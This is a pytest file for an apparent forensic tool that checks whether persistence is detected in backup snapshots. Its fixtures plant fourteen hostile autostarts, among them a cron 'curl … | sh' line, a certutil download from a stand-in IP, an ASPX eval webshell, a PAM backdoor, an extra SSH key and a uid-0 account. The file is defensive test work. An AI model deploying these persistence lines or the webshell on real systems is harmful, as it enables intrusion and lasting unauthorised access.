"""What starts by itself, in fourteen places: named where it is new, and silent on a clean tree."""

from __future__ import annotations

import pytest

from firstbell.base.progress import Silent
from firstbell.drill.intrusion.hives import make_tree, write_hive
from firstbell.investigate.hunts.autostart import Start
from firstbell.investigate.hunts.hunt import Hunt, HuntOptions
from firstbell.investigate.hunts.match.signs import list_rules, load_signs
from tests.investigate.hunts.made import MadeHost

CONFIG = "/C/Windows/System32/config"
RUN = r"Microsoft\Windows\CurrentVersion\Run"
SERVICES = r"ControlSet001\Services"
EVIL = r"C:\Users\Public\u.exe"
TASK = (
    '<?xml version="1.0" encoding="UTF-16"?><Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">'
    "<Principals><Principal><UserId>S-1-5-18</UserId></Principal></Principals>"
    "<Actions><Exec><Command>{}</Command><Arguments>{}</Arguments></Exec></Actions></Task>"
)
OBJECTS = (
    b"\x00junk\x00CommandLineEventConsumer\x00"
    + b"\x00" * 8
    + b"powershell -enc AAAA\x00Upd\x00"
    + bytes(2100)
)
JOBS = (
    bytes(64) + "https://203.0.113.5/x".encode("utf-16-le") + bytes(4) + EVIL.encode("utf-16-le") + bytes(64)
)
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI kali@kali\n"

BASE: dict[str, bytes] = {
    f"{CONFIG}/SOFTWARE": write_hive(make_tree({RUN: {"SecurityHealth": r"C:\Windows\system32\SecurityHealthSystray.exe"}})),
    f"{CONFIG}/SYSTEM": write_hive(
        make_tree(
            {
                "Select": {"Current": 1},
                rf"{SERVICES}\Spooler": {"ImagePath": r"C:\Windows\System32\spoolsv.exe", "Start": 2},
                r"ControlSet001\Control\Terminal Server": {"fDenyTSConnections": 1},
            }
        )
    ),
    "/C/Windows/System32/Tasks/District/Nightly": TASK.format(r"C:\Scripts\n.cmd", "").encode("utf-16"),
    "/C/Windows/System32/wbem/Repository/OBJECTS.DATA": bytes(4096),
    "/C/ProgramData/Microsoft/Network/Downloader/qmgr.db": bytes(4096),
    "/C/Windows/SYSVOL/sysvol/district.example/scripts/map.bat": b"net use H: \\\\fs01\\home$\r\n",
    "/C/inetpub/wwwroot/default.aspx": b"<html>Welcome</html>",
    "/etc/crontab": b"SHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\n",
    "/etc/systemd/system/backup.service": b"[Service]\nExecStart=/usr/bin/restic backup /\n",
    "/root/.ssh/authorized_keys": b"ssh-ed25519 AAAA admin@district\n",
    "/etc/ld.so.preload": b"",
    "/etc/pam.d/sshd": b"auth required pam_unix.so\n",
    "/etc/passwd": b"root:x:0:0::/root:/bin/bash\ndaemon:x:1:1::/:/usr/sbin/nologin\n",
}  # fmt: skip

PLANTED = {
    "run key": {f"{CONFIG}/SOFTWARE": write_hive(make_tree({RUN: {"Upd": EVIL}}))},
    "service": {
        f"{CONFIG}/SYSTEM": write_hive(
            make_tree({"Select": {"Current": 1}, rf"{SERVICES}\Upd": {"ImagePath": EVIL, "Start": 2}})
        )
    },
    "task": {"/C/Windows/System32/Tasks/Upd": TASK.format("powershell.exe", "-enc AAAA").encode("utf-16")},
    "wmi": {"/C/Windows/System32/wbem/Repository/OBJECTS.DATA": OBJECTS},
    "bits": {"/C/ProgramData/Microsoft/Network/Downloader/qmgr.db": JOBS},
    "cron": {"/etc/crontab": b"* * * * * root curl http://203.0.113.5/x | sh\n"},
    "systemd": {"/etc/systemd/system/upd.service": b"[Service]\nExecStart=/bin/bash -c '/tmp/.x/u'\n"},
    "authorized_keys": {"/root/.ssh/authorized_keys": b"ssh-ed25519 AAAA admin@district\n" + KEY.encode()},
    "ld.so.preload": {"/etc/ld.so.preload": b"/usr/lib/libx.so\n"},
    "pam": {"/etc/pam.d/sshd": b"auth required pam_unix.so\nauth optional pam_backdoor.so\n"},
    "sysvol": {"/C/Windows/SYSVOL/sysvol/district.example/scripts/map.bat": b"\\\\dc01\\x$\\u.exe & certutil -urlcache -f http://203.0.113.5/u.exe u.exe\r\n"},
    "webshell": {"/C/inetpub/wwwroot/aspnet_client/e.aspx": b'<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>'},
    "account": {"/etc/passwd": BASE["/etc/passwd"] + b"sys0:x:0:0::/root:/bin/bash\n"},
    "rdp": {
        f"{CONFIG}/SYSTEM": write_hive(
            make_tree({"Select": {"Current": 1}, r"ControlSet001\Control\Terminal Server": {"fDenyTSConnections": 0}})
        )
    },
}  # fmt: skip


def list_starts(made: MadeHost, snapshot: str) -> list[Start]:
    """What a restore of the snapshot would start again."""
    signs = load_signs()
    hunt = Hunt(made.repository, made.store, list_rules(signs), signs=signs, digest=b"x")
    return hunt.list_starts(snapshot, HuntOptions(workers=1), Silent())[1]


def test_there_are_fourteen_places() -> None:
    assert len(PLANTED) == 14


@pytest.mark.parametrize("place", PLANTED)
def test_what_was_planted_is_named_before_a_restore(place: str) -> None:
    made = MadeHost()
    made.add_night(BASE, paths=["/"])
    second = made.add_night({**BASE, **PLANTED[place]}, paths=["/"])
    starts = list_starts(made, second)
    new = [(one.place, one.strength) for one in starts if one.is_new]
    assert new
    assert {one for one, _ in new} == {place}
    assert {one.strength for one in starts if not one.is_new} <= {"known"}


def test_clean_trees_have_nothing_new_and_raise_no_trace() -> None:
    made = MadeHost()
    last = [made.add_night({**BASE, "/etc/motd": str(night).encode()}, paths=["/"]) for night in range(10)][
        -1
    ]
    assert [one for one in list_starts(made, last) if one.strength != "known"] == []
    assert made.hunt().traces == []


def test_a_hostile_start_is_a_trace_and_one_of_an_installed_program_is_none() -> None:
    made = MadeHost()
    made.add_night(BASE, paths=["/"])
    hive = write_hive(make_tree({RUN: {"Zoom": r"C:\Program Files\Zoom\bin\Zoom.exe", "Upd": EVIL}}))
    made.add_night({**BASE, f"{CONFIG}/SOFTWARE": hive}, paths=["/"])
    (trace,) = made.hunt().traces
    assert (trace.sign, trace.strength) == ("stay.run", "shown")
    assert EVIL in trace.message
